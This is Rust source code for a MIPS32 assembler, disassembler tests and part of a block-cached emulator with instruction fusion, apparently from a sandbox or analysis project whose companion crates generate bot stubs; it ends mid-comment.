        assert_eq!(lines.len(), code.len() / 4);
        assert!(lines.iter().all(|l| !l.contains(".word")), "{lines:#?}");
        assert!(lines[0].contains("lui $t0, 0x1234"));
        assert!(lines[1].contains("ori $t0, $t0, 0x5678"));
    }

    #[test]
    fn structured_decode_flow_and_targets() {
        // beq $zero,$zero,-2 at 0x400008 → branch to 0x400004.
        let i = decode(0x1000_fffe, 0x400008);
        assert_eq!(i.flow, Flow::Branch(0x400004));
        assert!(i.known);
        // j 0x400000 (from jumps_get_delay_slot_nops encoding).
        let j = decode(0x02 << 26 | (0x400000 >> 2), 0x400000);
        assert_eq!(j.flow, Flow::Jump(0x400000));
        // syscall / break / jr / jalr.
        assert_eq!(decode(0x0000000c, 0).flow, Flow::Syscall);
        assert_eq!(decode(0x0000000d, 0).flow, Flow::Break);
        assert_eq!(decode(0x03e00008, 0).flow, Flow::JumpReg); // jr $ra
                                                               // lui is straight-line with the immediate visible.
        let lui = decode(0x3c08dead, 0);
        assert_eq!(lui.flow, Flow::Normal);
        assert_eq!(lui.op(), 0x0f);
        assert_eq!(lui.rt(), 8);
        assert_eq!(lui.imm(), 0xdead);
    }

    #[test]
    fn structured_decode_agrees_with_text_disassembler() {
        // `known` must mean exactly "disassemble does not print .word",
        // across a word sweep that covers every opcode/funct bucket.
        for base in [0u32, 0x0000_0c00, 0x1000_fffe, 0x3c08_dead, 0xffff_ffff] {
            for delta in 0..512u32 {
                let w = base ^ (delta << 16) ^ delta;
                let i = decode(w, 0x400000);
                let text = disassemble(w, 0x400000);
                assert_eq!(
                    i.known,
                    !text.starts_with(".word"),
                    "word {w:#010x} → {text}"
                );
            }
        }
    }

    #[test]
    fn to_ins_reencodes_identically() {
        let mut a = Assembler::new(0x400000);
        a.ins(Ins::Li(Reg::S0, 0x10000000))
            .ins(Ins::Move(Reg::T0, Reg::S0))
            .label("l")
            .ins(Ins::Sh(Reg::T9, Reg::S4, 0x1200))
            .ins(Ins::Bne(Reg::T1, Reg::ZERO, "l".into()))
            .ins(Ins::Syscall)
            .ins(Ins::J("l".into()));
        let code = a.assemble().unwrap();
        for (k, c) in code.chunks_exact(4).enumerate() {
            let w = u32::from_be_bytes([c[0], c[1], c[2], c[3]]);
            let pc = 0x400000 + 4 * k as u32;
            let ins = decode(w, pc).to_ins().expect("assembler output decodes");
            let mut re = Assembler::new(pc);
            re.ins(ins);
            let bytes = re.assemble().unwrap();
            assert_eq!(&bytes[..4], c, "word {w:#010x} at {pc:#x}");
        }
    }
}
