//! A two-pass MIPS32 assembler.
//!
//! Instructions are structured values ([`Ins`]), not parsed text: the stub
//! generator in `malnet-botgen` builds programs programmatically. Labels
//! are strings resolved in the second pass. Branch/jump delay slots are
//! filled with an automatic `nop` (the classic conservative assembler
//! behaviour), so generated code is always delay-slot-correct.

use std::collections::HashMap;
use std::fmt;

/// MIPS register, by conventional name.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Reg(pub u8);

#[allow(missing_docs)]
impl Reg {
    pub const ZERO: Reg = Reg(0);
    pub const AT: Reg = Reg(1);
    pub const V0: Reg = Reg(2);
    pub const V1: Reg = Reg(3);
    pub const A0: Reg = Reg(4);
    pub const A1: Reg = Reg(5);
    pub const A2: Reg = Reg(6);
    pub const A3: Reg = Reg(7);
    pub const T0: Reg = Reg(8);
    pub const T1: Reg = Reg(9);
    pub const T2: Reg = Reg(10);
    pub const T3: Reg = Reg(11);
    pub const T4: Reg = Reg(12);
    pub const T5: Reg = Reg(13);
    pub const T6: Reg = Reg(14);
    pub const T7: Reg = Reg(15);
    pub const S0: Reg = Reg(16);
    pub const S1: Reg = Reg(17);
    pub const S2: Reg = Reg(18);
    pub const S3: Reg = Reg(19);
    pub const S4: Reg = Reg(20);
    pub const S5: Reg = Reg(21);
    pub const S6: Reg = Reg(22);
    pub const S7: Reg = Reg(23);
    pub const T8: Reg = Reg(24);
    pub const T9: Reg = Reg(25);
    pub const K0: Reg = Reg(26);
    pub const K1: Reg = Reg(27);
    pub const GP: Reg = Reg(28);
    pub const SP: Reg = Reg(29);
    pub const FP: Reg = Reg(30);
    pub const RA: Reg = Reg(31);
}

/// Conventional register names for the disassembler.
pub const REG_NAMES: [&str; 32] = [
    "zero", "at", "v0", "v1", "a0", "a1", "a2", "a3", "t0", "t1", "t2", "t3", "t4", "t5", "t6",
    "t7", "s0", "s1", "s2", "s3", "s4", "s5", "s6", "s7", "t8", "t9", "k0", "k1", "gp", "sp", "fp",
    "ra",
];

impl fmt::Display for Reg {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "${}", REG_NAMES[self.0 as usize & 31])
    }
}

/// A branch/jump target: either a named label or an absolute address.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Target {
    /// Resolved in pass 2 from the label table.
    Label(String),
    /// Absolute byte address.
    Abs(u32),
}

impl From<&str> for Target {
    fn from(s: &str) -> Self {
        Target::Label(s.to_string())
    }
}
impl From<u32> for Target {
    fn from(a: u32) -> Self {
        Target::Abs(a)
    }
}

/// One MIPS32 instruction (or pseudo-instruction).
#[derive(Debug, Clone, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum Ins {
    // --- R-type arithmetic/logic ---
    Addu(Reg, Reg, Reg), // rd, rs, rt
    Subu(Reg, Reg, Reg),
    And(Reg, Reg, Reg),
    Or(Reg, Reg, Reg),
    Xor(Reg, Reg, Reg),
    Nor(Reg, Reg, Reg),
    Slt(Reg, Reg, Reg),
    Sltu(Reg, Reg, Reg),
    Sll(Reg, Reg, u8), // rd, rt, shamt
    Srl(Reg, Reg, u8),
    Sra(Reg, Reg, u8),
    Sllv(Reg, Reg, Reg), // rd, rt, rs
    Srlv(Reg, Reg, Reg),
    Mult(Reg, Reg),
    Multu(Reg, Reg),
    Div(Reg, Reg),
    Divu(Reg, Reg),
    Mfhi(Reg),
    Mflo(Reg),
    Jr(Reg),
    Jalr(Reg, Reg), // rd, rs
    Syscall,
    Break,
    // --- I-type ---
    Addiu(Reg, Reg, i16), // rt, rs, imm
    Slti(Reg, Reg, i16),
    Sltiu(Reg, Reg, i16),
    Andi(Reg, Reg, u16),
    Ori(Reg, Reg, u16),
    Xori(Reg, Reg, u16),
    Lui(Reg, u16),
    Lb(Reg, Reg, i16), // rt, base, offset
    Lbu(Reg, Reg, i16),
    Lh(Reg, Reg, i16),
    Lhu(Reg, Reg, i16),
    Lw(Reg, Reg, i16),
    Sb(Reg, Reg, i16),
    Sh(Reg, Reg, i16),
    Sw(Reg, Reg, i16),
    Beq(Reg, Reg, Target),
    Bne(Reg, Reg, Target),
    Blez(Reg, Target),
    Bgtz(Reg, Target),
    Bltz(Reg, Target),
    Bgez(Reg, Target),
    // --- J-type ---
    J(Target),
    Jal(Target),
    // --- pseudo ---
    /// `nop` == `sll $zero, $zero, 0`.
    Nop,
    /// Load a full 32-bit immediate (`lui` + `ori`): 8 bytes.
    Li(Reg, u32),
    /// Register move (`addu rd, rs, $zero`).
    Move(Reg, Reg),
    /// Unconditional branch (`beq $zero, $zero, target`).
    B(Target),
}

impl Ins {
    /// Encoded size in bytes (pseudo `Li` expands to two words; branches
    /// and jumps get an automatic delay-slot `nop`).
    pub fn size(&self) -> u32 {
        match self {
            Ins::Li(..) => 8,
            Ins::Beq(..)
            | Ins::Bne(..)
            | Ins::Blez(..)
            | Ins::Bgtz(..)
            | Ins::Bltz(..)
            | Ins::Bgez(..)
            | Ins::B(..)
            | Ins::J(..)
            | Ins::Jal(..)
            | Ins::Jr(..)
            | Ins::Jalr(..) => 8,
            _ => 4,
        }
    }
}

fn r_type(op: u32, rs: Reg, rt: Reg, rd: Reg, shamt: u8, funct: u32) -> u32 {
    op << 26
        | u32::from(rs.0 & 31) << 21
        | u32::from(rt.0 & 31) << 16
        | u32::from(rd.0 & 31) << 11
        | u32::from(shamt & 31) << 6
        | funct
}

fn i_type(op: u32, rs: Reg, rt: Reg, imm: u16) -> u32 {
    op << 26 | u32::from(rs.0 & 31) << 21 | u32::from(rt.0 & 31) << 16 | u32::from(imm)
}

/// Assembler error.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AsmError {
    /// A referenced label was never defined.
    UndefinedLabel(String),
    /// A label was defined twice.
    DuplicateLabel(String),
    /// Branch target out of the signed-16-bit word-offset range.
    BranchOutOfRange {
        /// Branch site address.
        at: u32,
        /// Requested target address.
        target: u32,
    },
}

impl fmt::Display for AsmError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AsmError::UndefinedLabel(l) => write!(f, "undefined label {l:?}"),
            AsmError::DuplicateLabel(l) => write!(f, "duplicate label {l:?}"),
            AsmError::BranchOutOfRange { at, target } => {
                write!(f, "branch at {at:#x} to {target:#x} out of range")
            }
        }
    }
}

impl std::error::Error for AsmError {}

enum Item {
    Ins(Ins),
    Label(String),
}

/// The two-pass assembler. Instructions are appended in order; `assemble`
/// produces big-endian machine code.
#[derive(Default)]
pub struct Assembler {
    items: Vec<Item>,
    base: u32,
}

impl Assembler {
    /// Create an assembler whose first instruction lands at `base`.
    pub fn new(base: u32) -> Self {
        Assembler {
            items: Vec::new(),
            base,
        }
    }

    /// Append an instruction.
    pub fn ins(&mut self, i: Ins) -> &mut Self {
        self.items.push(Item::Ins(i));
        self
    }

    /// Append many instructions.
    pub fn emit(&mut self, ins: impl IntoIterator<Item = Ins>) -> &mut Self {
        for i in ins {
            self.ins(i);
        }
        self
    }

    /// Define a label at the current position.
    pub fn label(&mut self, name: &str) -> &mut Self {
        self.items.push(Item::Label(name.to_string()));
        self
    }

    /// Assemble to big-endian machine code.
    pub fn assemble(&self) -> Result<Vec<u8>, AsmError> {
        // Pass 1: label addresses.
        let mut labels: HashMap<String, u32> = HashMap::new();
        let mut pc = self.base;
        for item in &self.items {
            match item {
                Item::Label(name) => {
                    if labels.insert(name.clone(), pc).is_some() {
                        return Err(AsmError::DuplicateLabel(name.clone()));
                    }
                }
                Item::Ins(i) => pc += i.size(),
            }
        }
        let resolve = |t: &Target| -> Result<u32, AsmError> {
            match t {
                Target::Abs(a) => Ok(*a),
                Target::Label(l) => labels
                    .get(l)
                    .copied()
                    .ok_or_else(|| AsmError::UndefinedLabel(l.clone())),
            }
        };
        // Pass 2: encode.
        let mut out: Vec<u8> = Vec::new();
        let mut pc = self.base;
        let word = |out: &mut Vec<u8>, w: u32, pc: &mut u32| {
            out.extend_from_slice(&w.to_be_bytes());
            *pc += 4;
        };
        let branch_imm = |pc: u32, target: u32| -> Result<u16, AsmError> {
            let delta = (i64::from(target) - i64::from(pc) - 4) / 4;
            if !(-(1 << 15)..(1 << 15)).contains(&delta) {
                return Err(AsmError::BranchOutOfRange { at: pc, target });
            }
            Ok(delta as i16 as u16)
        };
        for item in &self.items {
            let Item::Ins(i) = item else { continue };
            match i {
                Ins::Addu(rd, rs, rt) => word(&mut out, r_type(0, *rs, *rt, *rd, 0, 0x21), &mut pc),
                Ins::Subu(rd, rs, rt) => word(&mut out, r_type(0, *rs, *rt, *rd, 0, 0x23), &mut pc),
                Ins::And(rd, rs, rt) => word(&mut out, r_type(0, *rs, *rt, *rd, 0, 0x24), &mut pc),
                Ins::Or(rd, rs, rt) => word(&mut out, r_type(0, *rs, *rt, *rd, 0, 0x25), &mut pc),
                Ins::Xor(rd, rs, rt) => word(&mut out, r_type(0, *rs, *rt, *rd, 0, 0x26), &mut pc),
                Ins::Nor(rd, rs, rt) => word(&mut out, r_type(0, *rs, *rt, *rd, 0, 0x27), &mut pc),
                Ins::Slt(rd, rs, rt) => word(&mut out, r_type(0, *rs, *rt, *rd, 0, 0x2a), &mut pc),
                Ins::Sltu(rd, rs, rt) => word(&mut out, r_type(0, *rs, *rt, *rd, 0, 0x2b), &mut pc),
                Ins::Sll(rd, rt, sh) => {
                    word(&mut out, r_type(0, Reg::ZERO, *rt, *rd, *sh, 0x00), &mut pc)
                }
                Ins::Srl(rd, rt, sh) => {
                    word(&mut out, r_type(0, Reg::ZERO, *rt, *rd, *sh, 0x02), &mut pc)
                }
                Ins::Sra(rd, rt, sh) => {
                    word(&mut out, r_type(0, Reg::ZERO, *rt, *rd, *sh, 0x03), &mut pc)
                }
                Ins::Sllv(rd, rt, rs) => word(&mut out, r_type(0, *rs, *rt, *rd, 0, 0x04), &mut pc),
                Ins::Srlv(rd, rt, rs) => word(&mut out, r_type(0, *rs, *rt, *rd, 0, 0x06), &mut pc),
                Ins::Mult(rs, rt) => {
                    word(&mut out, r_type(0, *rs, *rt, Reg::ZERO, 0, 0x18), &mut pc)
                }
                Ins::Multu(rs, rt) => {
                    word(&mut out, r_type(0, *rs, *rt, Reg::ZERO, 0, 0x19), &mut pc)
                }
                Ins::Div(rs, rt) => {
                    word(&mut out, r_type(0, *rs, *rt, Reg::ZERO, 0, 0x1a), &mut pc)
                }
                Ins::Divu(rs, rt) => {
                    word(&mut out, r_type(0, *rs, *rt, Reg::ZERO, 0, 0x1b), &mut pc)
                }
                Ins::Mfhi(rd) => word(
                    &mut out,
                    r_type(0, Reg::ZERO, Reg::ZERO, *rd, 0, 0x10),
                    &mut pc,
                ),
                Ins::Mflo(rd) => word(
                    &mut out,
                    r_type(0, Reg::ZERO, Reg::ZERO, *rd, 0, 0x12),
                    &mut pc,
                ),
                Ins::Jr(rs) => {
                    word(
                        &mut out,
                        r_type(0, *rs, Reg::ZERO, Reg::ZERO, 0, 0x08),
                        &mut pc,
                    );
                    word(&mut out, 0, &mut pc); // delay slot
                }
                Ins::Jalr(rd, rs) => {
                    word(&mut out, r_type(0, *rs, Reg::ZERO, *rd, 0, 0x09), &mut pc);
                    word(&mut out, 0, &mut pc);
                }
                Ins::Syscall => word(&mut out, 0x0000000c, &mut pc),
                Ins::Break => word(&mut out, 0x0000000d, &mut pc),
                Ins::Addiu(rt, rs, imm) => {
                    word(&mut out, i_type(0x09, *rs, *rt, *imm as u16), &mut pc)
                }
                Ins::Slti(rt, rs, imm) => {
                    word(&mut out, i_type(0x0a, *rs, *rt, *imm as u16), &mut pc)
                }
                Ins::Sltiu(rt, rs, imm) => {
                    word(&mut out, i_type(0x0b, *rs, *rt, *imm as u16), &mut pc)
                }
                Ins::Andi(rt, rs, imm) => word(&mut out, i_type(0x0c, *rs, *rt, *imm), &mut pc),
                Ins::Ori(rt, rs, imm) => word(&mut out, i_type(0x0d, *rs, *rt, *imm), &mut pc),
                Ins::Xori(rt, rs, imm) => word(&mut out, i_type(0x0e, *rs, *rt, *imm), &mut pc),
                Ins::Lui(rt, imm) => word(&mut out, i_type(0x0f, Reg::ZERO, *rt, *imm), &mut pc),
                Ins::Lb(rt, base, off) => {
                    word(&mut out, i_type(0x20, *base, *rt, *off as u16), &mut pc)
                }
                Ins::Lh(rt, base, off) => {
                    word(&mut out, i_type(0x21, *base, *rt, *off as u16), &mut pc)
                }
                Ins::Lw(rt, base, off) => {
                    word(&mut out, i_type(0x23, *base, *rt, *off as u16), &mut pc)
                }
                Ins::Lbu(rt, base, off) => {
                    word(&mut out, i_type(0x24, *base, *rt, *off as u16), &mut pc)
                }
                Ins::Lhu(rt, base, off) => {
                    word(&mut out, i_type(0x25, *base, *rt, *off as u16), &mut pc)
                }
                Ins::Sb(rt, base, off) => {
                    word(&mut out, i_type(0x28, *base, *rt, *off as u16), &mut pc)
                }
                Ins::Sh(rt, base, off) => {
                    word(&mut out, i_type(0x29, *base, *rt, *off as u16), &mut pc)
                }
                Ins::Sw(rt, base, off) => {
                    word(&mut out, i_type(0x2b, *base, *rt, *off as u16), &mut pc)
                }
                Ins::Beq(rs, rt, t) => {
                    let imm = branch_imm(pc, resolve(t)?)?;
                    word(&mut out, i_type(0x04, *rs, *rt, imm), &mut pc);
                    word(&mut out, 0, &mut pc);
                }
                Ins::Bne(rs, rt, t) => {
                    let imm = branch_imm(pc, resolve(t)?)?;
                    word(&mut out, i_type(0x05, *rs, *rt, imm), &mut pc);
                    word(&mut out, 0, &mut pc);
                }
                Ins::Blez(rs, t) => {
                    let imm = branch_imm(pc, resolve(t)?)?;
                    word(&mut out, i_type(0x06, *rs, Reg::ZERO, imm), &mut pc);
                    word(&mut out, 0, &mut pc);
                }
                Ins::Bgtz(rs, t) => {
                    let imm = branch_imm(pc, resolve(t)?)?;
                    word(&mut out, i_type(0x07, *rs, Reg::ZERO, imm), &mut pc);
                    word(&mut out, 0, &mut pc);
                }
                Ins::Bltz(rs, t) => {
                    let imm = branch_imm(pc, resolve(t)?)?;
                    word(&mut out, i_type(0x01, *rs, Reg(0), imm), &mut pc);
                    word(&mut out, 0, &mut pc);
                }
                Ins::Bgez(rs, t) => {
                    let imm = branch_imm(pc, resolve(t)?)?;
                    word(&mut out, i_type(0x01, *rs, Reg(1), imm), &mut pc);
                    word(&mut out, 0, &mut pc);
                }
                Ins::J(t) => {
                    let target = resolve(t)?;
                    word(&mut out, 0x02 << 26 | (target >> 2) & 0x03ff_ffff, &mut pc);
                    word(&mut out, 0, &mut pc);
                }
                Ins::Jal(t) => {
                    let target = resolve(t)?;
                    word(&mut out, 0x03 << 26 | (target >> 2) & 0x03ff_ffff, &mut pc);
                    word(&mut out, 0, &mut pc);
                }
                Ins::Nop => word(&mut out, 0, &mut pc),
                Ins::Li(rt, imm) => {
                    word(
                        &mut out,
                        i_type(0x0f, Reg::ZERO, *rt, (*imm >> 16) as u16),
                        &mut pc,
                    );
                    word(&mut out, i_type(0x0d, *rt, *rt, *imm as u16), &mut pc);
                }
                Ins::Move(rd, rs) => {
                    word(&mut out, r_type(0, *rs, Reg::ZERO, *rd, 0, 0x21), &mut pc)
                }
                Ins::B(t) => {
                    let imm = branch_imm(pc, resolve(t)?)?;
                    word(&mut out, i_type(0x04, Reg::ZERO, Reg::ZERO, imm), &mut pc);
                    word(&mut out, 0, &mut pc);
                }
            }
        }
        Ok(out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encodes_known_words() {
        // addu $v0, $a0, $a1  => 0x00851021
        let mut a = Assembler::new(0);
        a.ins(Ins::Addu(Reg::V0, Reg::A0, Reg::A1));
        assert_eq!(a.assemble().unwrap(), 0x00851021u32.to_be_bytes());
        // ori $t0, $zero, 0x1234 => 0x34081234
        let mut a = Assembler::new(0);
        a.ins(Ins::Ori(Reg::T0, Reg::ZERO, 0x1234));
        assert_eq!(a.assemble().unwrap(), 0x34081234u32.to_be_bytes());
        // lw $t1, 8($sp) => 0x8fa90008
        let mut a = Assembler::new(0);
        a.ins(Ins::Lw(Reg::T1, Reg::SP, 8));
        assert_eq!(a.assemble().unwrap(), 0x8fa90008u32.to_be_bytes());
        // syscall => 0x0000000c
        let mut a = Assembler::new(0);
        a.ins(Ins::Syscall);
        assert_eq!(a.assemble().unwrap(), 0x0000000cu32.to_be_bytes());
    }

    #[test]
    fn li_expands_to_lui_ori() {
        let mut a = Assembler::new(0);
        a.ins(Ins::Li(Reg::T0, 0xdeadbeef));
        let code = a.assemble().unwrap();
        assert_eq!(code.len(), 8);
        assert_eq!(&code[0..4], &0x3c08deadu32.to_be_bytes()); // lui $t0, 0xdead
        assert_eq!(&code[4..8], &0x3508beefu32.to_be_bytes()); // ori $t0, $t0, 0xbeef
    }

    #[test]
    fn branch_back_and_forward_resolve() {
        let mut a = Assembler::new(0x400000);
        a.label("top")
            .ins(Ins::Addiu(Reg::T0, Reg::T0, 1))
            .ins(Ins::Bne(Reg::T0, Reg::T1, "top".into()))
            .ins(Ins::Beq(Reg::ZERO, Reg::ZERO, "end".into()))
            .ins(Ins::Nop)
            .label("end")
            .ins(Ins::Jr(Reg::RA));
        let code = a.assemble().unwrap();
        // bne at 0x400004, target 0x400000: offset = (0x400000-0x400008)/4 = -2
        let w = u32::from_be_bytes([code[4], code[5], code[6], code[7]]);
        assert_eq!(w & 0xffff, 0xfffe);
    }

    #[test]
    fn undefined_label_errors() {
        let mut a = Assembler::new(0);
        a.ins(Ins::J("nowhere".into()));
        assert_eq!(
            a.assemble().unwrap_err(),
            AsmError::UndefinedLabel("nowhere".into())
        );
    }

    #[test]
    fn duplicate_label_errors() {
        let mut a = Assembler::new(0);
        a.label("x").ins(Ins::Nop).label("x");
        assert_eq!(
            a.assemble().unwrap_err(),
            AsmError::DuplicateLabel("x".into())
        );
    }

    #[test]
    fn jumps_get_delay_slot_nops() {
        let mut a = Assembler::new(0x400000);
        a.label("self").ins(Ins::J("self".into()));
        let code = a.assemble().unwrap();
        assert_eq!(code.len(), 8);
        assert_eq!(&code[4..8], &[0, 0, 0, 0]);
        let w = u32::from_be_bytes([code[0], code[1], code[2], code[3]]);
        assert_eq!(w >> 26, 0x02);
        assert_eq!(w & 0x03ff_ffff, 0x400000 >> 2);
    }

    #[test]
    fn sizes_match_emitted_bytes() {
        let ins = [
            Ins::Nop,
            Ins::Li(Reg::T0, 5),
            Ins::J("l".into()),
            Ins::Addu(Reg::T0, Reg::T1, Reg::T2),
            Ins::Beq(Reg::T0, Reg::T1, "l".into()),
        ];
        let mut a = Assembler::new(0);
        a.label("l");
        let mut expect = 0;
        for i in ins {
            expect += i.size();
            a.ins(i.clone());
        }
        assert_eq!(a.assemble().unwrap().len() as u32, expect);
    }
}
