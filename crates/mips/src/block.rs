//! Block-cached execution engine: predecode `.text` once, then dispatch
//! over a flat vector of decoded ops instead of fetch→shift→match per
//! instruction.
//!
//! ## Architecture
//!
//! [`ExecCache`] lowers every word of the segment containing the entry
//! point through the shared linear sweep ([`crate::dis::decode_all`] —
//! the same decoder `malnet-xray` builds its CFG on) into an [`Op`]:
//! registers and immediates pre-extracted, branch targets pre-resolved
//! to absolute addresses, sign-extension done once. `Cpu::run_cached`
//! then executes from the cache with a direct-indexed lookup
//! (`(pc - base) >> 2`), no per-instruction fetch or decode.
//!
//! A fusion pass rewrites the hot botgen stub idioms into
//! superinstructions:
//!
//! * `lui rt, hi; ori rt, rt, lo` → [`Op::LiPair`] (every `Ins::Li`);
//! * `lui; ori; syscall` → [`Op::LiSyscall`] (the syscall prelude);
//! * `addiu rt, rt, i; bne; nop` → [`Op::CountBne`] (loop counters);
//! * `addiu; addu; xor; bne; nop` → [`Op::AddAddXorBne`] (the stub's
//!   mix busy-loop body, which also iterates in place on self-loops);
//! * any two adjacent pure-ALU ops → [`Op::Alu2`], with the dominant
//!   `addiu; addu` pair specialized as [`Op::AddiuAddu`];
//! * a pure-ALU op feeding `bne; nop` → [`Op::AluBne`], with the
//!   `xor` head specialized as [`Op::XorBne`];
//! * branches and jumps carry a `nop` flag when their delay slot is a
//!   `nop` (the assembler always emits one), letting a taken branch
//!   retire branch+slot in one dispatch and jump directly.
//!
//! Fusion never spans a basic-block leader (a static branch target or
//! a post-branch fall-through point), so hot back-edges always land on
//! a fused head rather than the middle of a pair. Specialized variants
//! exist because on modest cores each dispatch — the indirect branch
//! plus the op load — costs as much as the ALU work it guards; concrete
//! per-kind code keeps the op count per dispatch high without adding an
//! inner kind-dispatch (which profiling showed costs as much as the
//! outer one).
//!
//! Fusion is always safe because only the *head* word's op is replaced:
//! the component words keep their plain ops, so a branch into the middle
//! of a fused sequence executes exactly the legacy instruction stream.
//! A fused op that does not fit the remaining budget degrades to its
//! first component.
//!
//! ## Oracle fallback
//!
//! `Cpu::step` remains the semantic oracle. Anything irregular leaves
//! the fast path and single-steps through it instead: a pending branch
//! at entry (mid delay slot), a PC outside or misaligned within the
//! cached segment, or a control transfer whose delay slot is not a
//! `nop`. Equivalence is therefore by construction — the fast path only
//! handles shapes it replicates bit-for-bit (same register file, memory
//! image, retired count, faults and fault PCs), which the differential
//! proptests pin down.
//!
//! ## Invalidation
//!
//! The cache registers its span as the [`Memory`] code-watch range;
//! every successful store overlapping it bumps `Memory::code_version`.
//! The engine compares versions when (re)entering the fast path and
//! after every store op, rebuilding the cache on mismatch — so
//! self-modifying code (guest stores *or* sandbox syscalls writing into
//! `.text`) always executes the freshly decoded bytes.

use crate::cpu::{Cpu, CpuError, StepOutcome};
use crate::dis::{decode_all, Flow, Inst};
use crate::mem::Memory;

/// A predecoded instruction: fields extracted, immediates extended,
/// branch targets absolute. Variants past `Illegal` are superinstructions
/// produced by the fusion pass. Field meanings follow the MIPS operand
/// names given in each variant's doc line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum Op {
    /// `sll rd, rt, sh`
    Sll { rd: u8, rt: u8, sh: u8 },
    /// `srl rd, rt, sh`
    Srl { rd: u8, rt: u8, sh: u8 },
    /// `sra rd, rt, sh`
    Sra { rd: u8, rt: u8, sh: u8 },
    /// `sllv rd, rt, rs`
    Sllv { rd: u8, rt: u8, rs: u8 },
    /// `srlv rd, rt, rs`
    Srlv { rd: u8, rt: u8, rs: u8 },
    /// `jr rs`; `nop` set when the delay slot is a `nop`
    Jr { rs: u8, nop: bool },
    /// `jalr rd, rs`
    Jalr { rd: u8, rs: u8, nop: bool },
    /// `syscall`
    Syscall,
    /// `break`
    Break,
    /// `mfhi rd`
    Mfhi { rd: u8 },
    /// `mflo rd`
    Mflo { rd: u8 },
    /// `mult rs, rt`
    Mult { rs: u8, rt: u8 },
    /// `multu rs, rt`
    Multu { rs: u8, rt: u8 },
    /// `div rs, rt`
    Div { rs: u8, rt: u8 },
    /// `divu rs, rt`
    Divu { rs: u8, rt: u8 },
    /// `addu rd, rs, rt`
    Addu { rd: u8, rs: u8, rt: u8 },
    /// `subu rd, rs, rt`
    Subu { rd: u8, rs: u8, rt: u8 },
    /// `and rd, rs, rt`
    And { rd: u8, rs: u8, rt: u8 },
    /// `or rd, rs, rt`
    Or { rd: u8, rs: u8, rt: u8 },
    /// `xor rd, rs, rt`
    Xor { rd: u8, rs: u8, rt: u8 },
    /// `nor rd, rs, rt`
    Nor { rd: u8, rs: u8, rt: u8 },
    /// `slt rd, rs, rt`
    Slt { rd: u8, rs: u8, rt: u8 },
    /// `sltu rd, rs, rt`
    Sltu { rd: u8, rs: u8, rt: u8 },
    /// `bltz rs, target` (absolute)
    Bltz { rs: u8, target: u32, nop: bool },
    /// `bgez rs, target`
    Bgez { rs: u8, target: u32, nop: bool },
    /// `j target`
    J { target: u32, nop: bool },
    /// `jal target`
    Jal { target: u32, nop: bool },
    /// `beq rs, rt, target`
    Beq {
        rs: u8,
        rt: u8,
        target: u32,
        nop: bool,
    },
    /// `bne rs, rt, target`
    Bne {
        rs: u8,
        rt: u8,
        target: u32,
        nop: bool,
    },
    /// `blez rs, target`
    Blez { rs: u8, target: u32, nop: bool },
    /// `bgtz rs, target`
    Bgtz { rs: u8, target: u32, nop: bool },
    /// `addiu rt, rs, imm` (imm pre-sign-extended)
    Addiu { rt: u8, rs: u8, imm: u32 },
    /// `slti rt, rs, imm`
    Slti { rt: u8, rs: u8, imm: i32 },
    /// `sltiu rt, rs, imm` (imm sign-extended then compared unsigned)
    Sltiu { rt: u8, rs: u8, imm: u32 },
    /// `andi rt, rs, imm` (zero-extended)
    Andi { rt: u8, rs: u8, imm: u32 },
    /// `ori rt, rs, imm`
    Ori { rt: u8, rs: u8, imm: u32 },
    /// `xori rt, rs, imm`
    Xori { rt: u8, rs: u8, imm: u32 },
    /// `lui rt, imm` (`val` pre-shifted: `imm << 16`)
    Lui { rt: u8, val: u32 },
    /// `lb rt, off(rs)` (off pre-sign-extended)
    Lb { rt: u8, rs: u8, off: u32 },
    /// `lh rt, off(rs)`
    Lh { rt: u8, rs: u8, off: u32 },
    /// `lw rt, off(rs)`
    Lw { rt: u8, rs: u8, off: u32 },
    /// `lbu rt, off(rs)`
    Lbu { rt: u8, rs: u8, off: u32 },
    /// `lhu rt, off(rs)`
    Lhu { rt: u8, rs: u8, off: u32 },
    /// `sb rt, off(rs)`
    Sb { rt: u8, rs: u8, off: u32 },
    /// `sh rt, off(rs)`
    Sh { rt: u8, rs: u8, off: u32 },
    /// `sw rt, off(rs)`
    Sw { rt: u8, rs: u8, off: u32 },
    /// Word the CPU would fault on (`IllegalInstruction`).
    Illegal { word: u32 },
    /// Superinstruction: `lui rt, hi16; ori rt, rt, lo16`. `hi` is the
    /// lui result (for budget-limited partial execution), `val` the
    /// final constant. Retires 2.
    LiPair { rt: u8, hi: u32, val: u32 },
    /// Superinstruction: `lui; ori; syscall` — the stub's syscall
    /// prelude. Retires 3 and yields to the embedder.
    LiSyscall { rt: u8, hi: u32, val: u32 },
    /// Superinstruction: `addiu rt, rt, imm; bne rs, rt2, target; nop` —
    /// the loop-counter idiom. Retires 3.
    CountBne {
        rt: u8,
        imm: u32,
        rs: u8,
        rt2: u8,
        target: u32,
    },
    /// Superinstruction: two adjacent pure-ALU instructions in one
    /// dispatch. Retires 2; degrades to `a` alone when the budget
    /// covers only one instruction.
    Alu2 { a: Alu, b: Alu },
    /// Superinstruction: a pure-ALU instruction, then
    /// `bne rs, rt, target` with a `nop` delay slot (the generalized
    /// loop back-edge). Retires 3; degrades to `a` alone on a short
    /// budget.
    AluBne { a: Alu, rs: u8, rt: u8, target: u32 },
    /// [`Op::Alu2`] specialized for the dominant stub idiom
    /// `addiu d1, s1, imm; addu d2, s2, t2` (induction step plus a
    /// dependent arithmetic op): straight-line code, no per-component
    /// kind dispatch. Retires 2.
    AddiuAddu {
        d1: u8,
        s1: u8,
        imm: u32,
        d2: u8,
        s2: u8,
        t2: u8,
    },
    /// [`Op::AluBne`] specialized for `xor d, s, t; bne rs, rt, target;
    /// nop` — the stub's compare-and-loop back-edge. Retires 3.
    XorBne {
        d: u8,
        s: u8,
        t: u8,
        rs: u8,
        rt: u8,
        target: u32,
    },
    /// The whole stub mix busy-loop body in one dispatch:
    /// `addiu d1, s1, imm; addu d2, s2, t2; xor d3, s3, t3;
    /// bne rs, rt, target; nop`. Retires 5 per trip, and when the bne
